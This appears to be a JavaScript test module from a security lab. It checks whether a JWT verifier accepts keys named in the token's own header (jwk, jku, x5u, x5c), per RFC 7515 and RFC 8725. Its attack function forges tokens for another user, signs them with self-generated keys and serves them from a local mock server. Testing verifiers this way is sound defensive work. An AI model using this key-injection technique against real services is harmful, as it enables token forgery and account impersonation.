// RFC 7515, sections 4.1.2 to 4.1.6, and RFC 8725, section 3.10: jwk, jku, x5u, x5c name the verifier's key for him.
import { bobs, own, asBob } from '../lib/forge.js';
import { header } from '../lib/lab.js';

export function benign(lab) { own(lab); }

export function attack(lab) {
  const { kid } = header(lab.tokens.alice);
  const server = lab.mesh.listen({ address: '127.0.0.1:0', status: 200, body: '{"keys":[]}' });
  const tokens = [];
  for (const [type, alg] of [['RSA', 'RS256'], ['RSA', 'PS256'], ['EC', 'ES256'], ['OKP', 'EdDSA']]) {
    const key = lab.mesh.jwk({ type, kid });
    const chain = lab.mesh.x509({ commonName: 'gateway' }).cert.replace(/-----[^-]+-----|\s/g, '');
    for (const extra of [{}, { jwk: key.jwk }, { jku: `http://${server.address}/keys` }, { x5u: `http://${server.address}/chain` }, { x5c: [chain] }, { jwk: key.jwk, kid: 'mine' }]) {
      tokens.push(lab.mesh.jws({ header: Object.assign({ alg, typ: 'JWT', kid }, extra), payload: bobs(lab), sign: alg, key: key.private }));
    }
  }
  asBob(lab, tokens);
  server.close();
}
